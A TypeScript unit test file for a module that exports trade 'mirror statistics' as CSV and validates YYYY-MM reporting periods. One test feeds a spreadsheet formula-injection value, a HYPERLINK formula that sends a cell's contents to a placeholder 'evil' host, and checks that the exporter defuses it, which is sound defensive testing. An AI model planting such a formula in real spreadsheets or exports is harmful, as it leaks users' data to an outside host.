/** Mirror statistics as CSV and their period, without a database (the routes: matching.test.ts). */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { statisticsCsv, statisticsPeriod, type StatisticsRow } from './mirror-read.ts';

const aRow = (overrides: Partial<StatisticsRow> = {}): StatisticsRow => ({
  partner: 'BB',
  chapter: '85',
  month: '2026-03',
  matched: 7,
  unmatched: 0,
  beyond: 2,
  exportValue: 12000,
  importValue: 8000,
  valueGap: -4000,
  currency: 'USD',
  ...overrides,
});

describe('mirror statistics as CSV', () => {
  test('a row is written as it is, a negative gap as a number', () => {
    assert.equal(
      statisticsCsv([aRow()]),
      'partner,chapter,month,matched,unmatched,beyond,export_value,import_value,value_gap,currency\n' +
        'BB,85,2026-03,7,0,2,12000,8000,-4000,USD\n',
    );
  });

  test("a partner's currency that a spreadsheet would run as a formula is neutralised", () => {
    const lines = statisticsCsv([
      aRow({ currency: '=HYPERLINK("http://evil/?"&A1,"x")' }),
      aRow({ currency: '-1+1' }),
      aRow({ currency: '\t=1' }),
    ]).split('\n');
    assert.equal(lines[1], `BB,85,2026-03,7,0,2,12000,8000,-4000,"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    assert.equal(lines[2], "BB,85,2026-03,7,0,2,12000,8000,-4000,'-1+1");
    assert.equal(lines[3], "BB,85,2026-03,7,0,2,12000,8000,-4000,'\t=1");
  });
});

describe('the period of mirror statistics', () => {
  test('by default the twelve months to this month, or to `to`', () => {
    assert.deepEqual(statisticsPeriod(undefined, undefined, '2026-12-06'), {
      ok: true,
      from: '2026-01',
      to: '2026-12',
    });
    assert.deepEqual(statisticsPeriod(undefined, '2026-03', '2026-12-06'), {
      ok: true,
      from: '2025-04',
      to: '2026-03',
    });
  });

  test('months outside 1900-01 to 9999-12 or malformed are refused in words', () => {
    for (const [from, to] of [
      [undefined, '0000-01'],
      ['0000-01', '0000-01'],
      ['1899-12', '2026-01'],
      ['2026-13', undefined],
      [' 2026-01', undefined],
      ['2026-01\n', undefined],
    ] as const) {
      const period = statisticsPeriod(from, to, '2026-12-06');
      assert.equal(period.ok, false, `${from} ${to}`);
      if (!period.ok) assert.match(period.message, /must be a month YYYY-MM from 1900-01 to 9999-12/);
    }
  });

  test('the default start is not before 1900-01', () => {
    assert.deepEqual(statisticsPeriod(undefined, '1900-05', '2026-12-06'), {
      ok: true,
      from: '1900-01',
      to: '1900-05',
    });
  });
});
